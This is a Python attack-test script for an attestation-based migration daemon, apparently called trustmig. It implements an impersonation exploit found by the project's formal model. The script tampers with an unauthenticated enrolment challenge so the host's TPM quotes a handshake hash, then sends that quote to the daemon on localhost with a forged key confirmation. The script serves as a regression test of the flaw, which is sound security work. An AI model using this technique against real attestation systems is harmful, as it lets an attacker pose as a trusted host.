#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Impersonate a source with its own TPM as a quote oracle (attack test).

tm-enrol-oracle.py PORT POLICY TOKEN MK_PUB CHALLENGE RESPONSE -- CMD...

The attack the formal model (docs/proof/) found: trustmig enrol-respond
quotes the 32-byte nonce of any challenge file (challenges are not
authenticated) with the host's staged AK, which is certified before
enrol-install moves it. Holding the host's new token TOKEN (public), the
attacker opens a handshake with trustmigd on 127.0.0.1:PORT as that host
(ephemeral key: private key 1, so every ECDH result is the x-coordinate
of the peer's point; MK_PUB is the destination's migration key, public in
its token), puts H3 = SHA-256(frame(M1) || frame(M2)) as the nonce of
CHALLENGE (a challenge for the host's request), lets the host answer it
with CMD (which must write RESPONSE), and sends the quote in M3 with a
valid key confirmation. Prints the type and body (hex) of the reply.
"""
import base64
import hashlib
import hmac
import socket
import subprocess
import sys

from tmwire import G, der, frame, make, tlv


def fields(buf):
    """The TLVs inside the outer SEQUENCE of buf: [(value start, end)]."""
    off, end = tlv(buf, 0)
    out = []
    while off < end:
        v, off = tlv(buf, off)
        out.append((v, off))
    return out


def pem_read(path):
    lines = open(path).read().split("\n")
    return lines[0], base64.b64decode("".join(lines[1:-2])), lines[-2]


def pem_write(path, head, data, tail):
    b64 = base64.b64encode(data).decode()
    body = [b64[i:i + 64] for i in range(0, len(b64), 64)]
    open(path, "w").write("\n".join([head] + body + [tail, ""]))


def recv_frame(s):
    f = frame(s)
    if f is None:
        sys.exit("the destination closed the connection")
    return f


def mk_x(path):
    """x-coordinate of the ECC point in a marshalled TPM2B_PUBLIC."""
    p = open(path, "rb").read()
    off = 2 + 2 + 2 + 4                               # size, type, name, attrs
    off += 2 + int.from_bytes(p[off:off + 2], "big")  # authPolicy
    off += 2 if p[off:off + 2] == b"\x00\x10" else 6  # symmetric
    off += 2 if p[off:off + 2] == b"\x00\x10" else 4  # scheme
    off += 2                                          # curve
    off += 2 if p[off:off + 2] == b"\x00\x10" else 4  # kdf
    assert int.from_bytes(p[off:off + 2], "big") == 32
    return p[off + 2:off + 34]


def hkdf(salt, ikm, info):
    prk = hmac.new(salt, ikm, hashlib.sha256).digest()
    return hmac.new(prk, info + b"\x01", hashlib.sha256).digest()


def main():
    port, policy, token, mkpub, chal, resp = sys.argv[1:7]
    cmd = sys.argv[8:]
    s = socket.create_connection(("127.0.0.1", int(port)))
    cert = pem_read(token)[1]
    hello1 = der(0x30, der(0x04, bytes(32)) + der(0x0c, policy.encode()) +
                 der(0x30, b"") + der(0x30, cert) + der(0x04, G))
    m1 = make(1, hello1)
    s.sendall(m1)
    m2 = recv_frame(s)
    body = m2[6:]
    hello_start = tlv(body, 0)[0]
    hello2 = body[hello_start:tlv(body, hello_start)[1]]
    eph_d = hello2[slice(*fields(hello2)[2])]
    z = eph_d[1:33] + mk_x(mkpub)
    kcs = hkdf(hashlib.sha256(m1 + hello2).digest(), z,
               b"trustmig v1 confirm s2d")
    # the host's TPM quotes H3 as an enrolment nonce
    head, c, tail = pem_read(chal)
    nonce = fields(c)[2]
    assert nonce[1] - nonce[0] == 32
    c = c[:nonce[0]] + hashlib.sha256(m1 + m2).digest() + c[nonce[1]:]
    pem_write(chal, head, c, tail)
    subprocess.run(cmd, check=True)
    r = pem_read(resp)[1]
    quote, sig = [r[slice(*f)] for f in fields(r)[3:5]]
    attest = der(0x30, der(0x04, quote) + der(0x04, sig) + der(0x04, b""))
    mac = hmac.new(kcs, hashlib.sha256(m1 + m2 + attest).digest(),
                   hashlib.sha256).digest()
    s.sendall(make(3, der(0x30, attest + der(0x04, mac))))
    reply = recv_frame(s)
    print("reply type %d body %s" % (reply[1], reply[6:].hex()))


main()
